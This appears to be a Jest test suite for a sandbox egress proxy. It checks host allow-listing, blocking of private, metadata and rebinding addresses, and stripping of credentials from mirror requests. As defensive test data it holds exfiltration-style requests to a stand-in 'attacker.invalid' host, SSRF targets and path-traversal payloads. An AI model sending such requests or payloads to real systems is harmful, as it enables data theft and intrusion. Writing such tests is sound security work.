import { once } from 'node:events'
import { readFileSync, writeFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import { type AddressInfo, connect } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { type Egress, openEgress } from '../../src/adapters/sandbox/egress.ts'
import { findMirrors, isInward, isListed } from '../../src/adapters/sandbox/hosts.ts'
import { freshDir } from '../workspace/tree.ts'
import { buildRoom, inRoom, told } from './room.ts'

let origin: Server
let seen: Pick<IncomingMessage, 'method' | 'url' | 'headers'>[] = []
beforeAll(async () => {
  origin = createServer((request, response) => {
    seen.push({ method: request.method, url: request.url, headers: request.headers })
    request.resume().on('end', () => response.end(`origin ${request.url}`))
  }).listen(0, '127.0.0.1')
  await once(origin, 'listening')
})
afterAll(() => {
  origin.close()
})

/** What names mean on the outside of these tests; whatever is dialled, the origin answers. */
const addresses: Record<string, string[]> = {
  'good.test': ['93.184.215.14'],
  'deep.wild.test': ['93.184.215.14'],
  'rebound.test': ['93.184.215.14', '127.0.0.1'],
  'metadata.test': ['169.254.169.254'],
  'mapped.test': ['::ffff:10.0.0.1'],
}

async function openProxy(
  hosts: string[],
  mirrors = {},
): Promise<{ egress: Egress; socket: string; dialled: string[] }> {
  const socket = join(freshDir(), 'egress.sock')
  const dialled: string[] = []
  const egress = await openEgress(
    { socket, hosts, mirrors },
    {
      lookup: async (host) => (addresses[host.toLowerCase()] ?? []).map((address) => ({ address })),
      dial: (address, port) => {
        dialled.push(`${address}:${port}`)
        return connect((origin.address() as AddressInfo).port, '127.0.0.1')
      },
    },
  )
  return { egress, socket, dialled }
}

/** Speaks to the proxy byte by byte; the answer until it ends. */
async function ask(socket: string, ...lines: string[]): Promise<string> {
  const client = connect(socket)
  client.write(lines.join('\r\n'))
  let answer = ''
  client.on('data', (chunk) => {
    answer += chunk
  })
  client.on('error', () => {})
  await once(client, 'close')
  return answer
}

const tunnel = (socket: string, to: string) =>
  ask(
    socket,
    `CONNECT ${to} HTTP/1.1`,
    `Host: ${to}`,
    '',
    'GET /inside HTTP/1.1',
    'Host: x',
    'Connection: close',
    '',
    '',
  )
const plain = (socket: string, method: string, url: string, ...headers: string[]) =>
  ask(socket, `${method} ${url} HTTP/1.1`, 'Host: x', 'Connection: close', ...headers, '', '')

describe('the filtering proxy', () => {
  const hosts = ['good.test', '*.wild.test', 'rebound.test', 'metadata.test', 'mapped.test', '10.9.8.7']

  test.each(['good.test:443', 'GOOD.test:443', 'deep.wild.test:443', 'good.test:80', '10.9.8.7:443'])(
    'lets a tunnel to %s through',
    async (to) => {
      const { egress, socket, dialled } = await openProxy(hosts)
      expect(await tunnel(socket, to)).toMatch(/^HTTP\/1\.1 200 [\s\S]*origin \/inside$/)
      expect(dialled).toHaveLength(1)
      expect(egress.blocked()).toEqual([])
      await egress.close()
    },
  )

  test.each([
    ['attacker.invalid:443', 'attacker.invalid:443'],
    ['wild.test:443', 'wild.test:443'],
    ['evilgood.test:443', 'evilgood.test:443'],
    ['good.test.attacker.invalid:443', 'good.test.attacker.invalid:443'],
    ['good.test:22', 'good.test:22 (port)'],
    ['rebound.test:443', 'rebound.test:443 (private address)'],
    ['metadata.test:80', 'metadata.test:80 (private address)'],
    ['mapped.test:443', 'mapped.test:443 (private address)'],
    ['127.0.0.1:443', '127.0.0.1:443'],
    ['[::1]:443', '::1:443'],
    ['169.254.169.254:80', '169.254.169.254:80'],
  ])('ATK-080 blocks a tunnel to %s and notes it', async (to, noted) => {
    const { egress, socket, dialled } = await openProxy(hosts)
    expect(await tunnel(socket, to)).toMatch(/^HTTP\/1\.1 403 /)
    expect(dialled).toEqual([])
    expect(egress.blocked()).toEqual([noted])
    await egress.close()
  })

  test('passes plain http on to the host of the address, whatever the Host line says', async () => {
    const { egress, socket } = await openProxy(hosts)
    seen = []
    expect(await plain(socket, 'GET', 'http://good.test/a?b=c', 'Proxy-Authorization: Basic eA==')).toContain(
      'origin /a?b=c',
    )
    expect(seen).toMatchObject([{ url: '/a?b=c', headers: { host: 'good.test' } }])
    expect(seen[0]?.headers['proxy-authorization']).toBeUndefined()
    expect(await plain(socket, 'GET', 'http://attacker.invalid/?d=secret')).toContain('403 Forbidden')
    expect(egress.blocked()).toEqual(['attacker.invalid:80'])
    await egress.close()
  })

  test('the list of what was blocked is bounded', async () => {
    const { egress, socket } = await openProxy([])
    for (let n = 0; n < 120; n += 1) await plain(socket, 'GET', `http://host-${n}.invalid/`)
    expect(egress.blocked()).toHaveLength(100)
    await egress.close()
  })
})

describe('the mirrors', () => {
  const mirrorOf = () => ({ npm: `http://127.0.0.1:${(origin.address() as AddressInfo).port}/base` })

  test('ATK-080 are read without credentials, and cannot be written', async () => {
    const { egress, socket } = await openProxy([], mirrorOf())
    seen = []
    const secrets = [
      'Authorization: Bearer attacker',
      'Cookie: a=b',
      'npm-otp: 1',
      'X-Data: secret',
      'Accept: application/json',
    ]
    expect(await plain(socket, 'GET', '/npm/left-pad', ...secrets)).toContain('origin /base/left-pad')
    expect(Object.keys(seen[0]?.headers ?? {}).sort()).toEqual(['accept', 'connection', 'host'])
    for (const method of ['PUT', 'POST', 'DELETE', 'PATCH']) {
      expect(await plain(socket, method, '/npm/left-pad', 'Content-Length: 0', ...secrets)).toContain('403 Forbidden')
    }
    expect(seen).toHaveLength(1)
    expect(egress.blocked()).toContain('PUT /npm/left-pad')
    await egress.close()
  })

  test.each([
    '/npm/../outside',
    '/npm/%2e%2e/outside',
    '/npm/..\\outside',
    '/other/x',
    '/',
    '/__proto__/x',
    '/npm@attacker.invalid/',
    '/npm/../base-private/x',
    '/npm/%2e%2e/base-private/x',
    '/npm/..%2fbase-private/x',
    '/npm/a%2f..%2f..%2fbase-private/x',
    '/npm/..%5cbase-private/x',
    '/npm/%zz',
  ])('%s leads nowhere', async (path) => {
    const { egress, socket } = await openProxy([], mirrorOf())
    seen = []
    expect(await plain(socket, 'GET', path)).toContain('403 Forbidden')
    expect(seen).toEqual([])
    await egress.close()
  })

  test.each(['/left-pad', '/@scope%2fname', '/-/v1/search?text=a/../b', '/a..b/-/a..b-1.0.0.tgz'])(
    '%s is passed on as it is',
    async (path) => {
      const { egress, socket } = await openProxy([], mirrorOf())
      expect(await plain(socket, 'GET', `/npm${path}`)).toContain(`origin /base${path}`)
      await egress.close()
    },
  )

  test('credentials in the address of a mirror are not used', async () => {
    const npm = mirrorOf().npm.replace('//', '//owner:secret@')
    const { egress, socket } = await openProxy([], { npm })
    seen = []
    expect(await plain(socket, 'GET', '/npm/private')).toContain('origin /base/private')
    expect(seen[0]?.headers.authorization).toBeUndefined()
    expect(JSON.stringify(egress.env)).not.toContain('secret')
    await egress.close()
  })

  test('a path that is too long for a socket is explained', async () => {
    const socket = join(freshDir(), 'x'.repeat(120))
    await expect(openEgress({ socket, hosts: [], mirrors: {} })).rejects.toMatchObject({
      code: 'no-room',
      message: expect.stringContaining('too long'),
      todo: expect.stringContaining('RUNNER_TEMP'),
    })
  })

  test('are found by asking the tools of the machine', async () => {
    const { npm } = await findMirrors()
    expect(npm).toMatch(/^https?:\/\/[^/]+/)
    const { egress } = await openProxy([], { npm })
    expect(egress.env).toMatchObject({ npm_config_registry: 'http://127.0.0.1:4011/npm' })
    await egress.close()
  })

  test('are asked for without the secrets of the step', async () => {
    const bin = freshDir()
    const heard = join(bin, 'heard')
    writeFileSync(join(bin, 'npm'), `#!/bin/sh\nenv > ${heard}\necho http://registry.test/npm/\n`, { mode: 0o755 })
    const secrets = {
      'INPUT_AGENT-API-KEY': 'canary',
      GITHUB_TOKEN: 'canary',
      NODE_OPTIONS: 'canary',
      GOFLAGS: 'canary',
    }
    const settings = { npm_config_userconfig: '/settings', HOME: '/home/x' }
    const mirrors = await findMirrors({ PATH: `${bin}:/usr/bin:/bin`, ...settings, ...secrets })
    expect(mirrors.npm).toBe('http://registry.test/npm')
    const env = readFileSync(heard, 'utf8')
    expect(env).not.toContain('canary')
    expect(env).toContain('npm_config_userconfig=/settings')
    expect(env).toContain('HOME=/home/x')
  })

  inRoom('and listed hosts are all that a room reaches', async () => {
    const { egress, socket, dialled } = await openProxy(['good.test'], mirrorOf())
    const built = await buildRoom({ egress: socket }, { env: egress.env })
    const get = (url: string) =>
      told(
        built,
        `/issuewright/node -e "fetch('${url}').then((r) => r.text()).then(console.log, (e) => console.log(e.cause?.message))"`,
      )
    expect(await get('http://127.0.0.1:4011/npm/left-pad')).toBe('origin /base/left-pad')
    expect(await get('http://good.test/x')).toBe('origin /x')
    expect(await get('https://attacker.invalid/?d=secret')).toMatch(/403|Proxy|cancelled/)
    expect(dialled).toEqual(['93.184.215.14:80'])
    expect(egress.blocked()).toEqual(['attacker.invalid:443'])
    expect(await told(built, 'echo $npm_config_registry')).toBe('http://127.0.0.1:4011/npm')
    await egress.close()
  })
})

test('addresses that lead inward', () => {
  for (const address of [
    '127.8.0.1',
    '10.1.2.3',
    '172.31.0.1',
    '192.168.1.1',
    '169.254.169.254',
    '100.64.0.1',
    '0.0.0.0',
    '224.0.0.1',
    '255.255.255.255',
    '168.63.129.16',
    '::1',
    '::',
    'fe80::1',
    'fd00::1',
    '::ffff:127.0.0.1',
    '::ffff:a9fe:a9fe',
    '64:ff9b::7f00:1',
    '2002:7f00:1::',
  ]) {
    expect([address, isInward(address)]).toEqual([address, true])
  }
  for (const address of ['93.184.215.14', '172.32.0.1', '2606:4700::1111', '::ffff:93.184.215.14']) {
    expect([address, isInward(address)]).toEqual([address, false])
  }
})

test('names that are listed', () => {
  expect(isListed(['*.example.com'], 'a.b.example.com')).toBe(true)
  expect(isListed(['*.example.com'], 'example.com')).toBe(false)
  expect(isListed(['*.0.0.1'], '127.0.0.1')).toBe(false)
  expect(isListed(['Example.com'], 'example.COM')).toBe(true)
})
